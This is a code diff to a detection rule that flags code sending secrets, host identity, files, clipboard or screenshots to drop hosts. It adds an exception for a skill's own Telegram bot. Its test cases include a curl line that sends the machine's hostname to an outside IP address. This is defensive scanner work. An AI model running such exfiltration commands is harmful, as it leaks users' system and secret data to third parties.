@@ -1,4 +1,4 @@
-import { all, any, anyArgument, call, from, matches } from "../match.ts";
+import { all, any, anyArgument, call, from, matches, not, says } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { DROP_HOSTS } from "../vocabulary/hosts.ts";
 import { SENDS } from "../vocabulary/network-calls.ts";
@@ -11,6 +11,9 @@ import {
   screenshot,
   secretVariable,
 } from "../vocabulary/sources.ts";
+
+/** Whoever runs the skill says which bot it is: its token is not written there. */
+const OWN_BOT = /api\.telegram\.org\/bot([^\x00-\x7f]|\{|<|YOUR)/i;
 
 export default defineRule({
   id: "data-sent-to-drop-host",
@@ -27,6 +30,7 @@ export default defineRule({
       of: SENDS,
       where: all(
         anyArgument(matches(...DROP_HOSTS)),
+        not(anyArgument(says(OWN_BOT))),
         any(
           ...[environment, secretVariable, hostIdentity, fileContents, clipboard, screenshot].map((data) =>
             anyArgument(from(data)),
@@ -38,6 +42,7 @@ export default defineRule({
       of: [...SHELL_SENDS, ...SHELL_LOOKUPS],
       where: all(
         anyArgument(matches(...DROP_HOSTS)),
+        not(anyArgument(says(OWN_BOT))),
         any(
           ...[environment, secretVariable, hostIdentity, fileContents, clipboard, screenshot].map((data) =>
             anyArgument(from(data)),
@@ -54,6 +59,8 @@ export default defineRule({
     { "run.sh": 'curl "http://203.0.113.9/?h=$(hostname)"' },
   ],
   good: [
+    'import os, requests\nTOKEN = os.environ["TELEGRAM_BOT_TOKEN"]\nrequests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files={"document": open("report.pdf", "rb").read()})',
+    { "run.sh": 'cat report.txt | curl -F document=@- "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendDocument"' },
     'import requests\nrequests.post("https://hooks.slack.com/services/x", json={"text": "build done"})',
     'import requests\nrequests.post("https://example.com/upload", data=open("notes.txt").read())',
     { "run.sh": 'curl -d \'{"text": "done"}\' https://hooks.slack.com/services/x' },
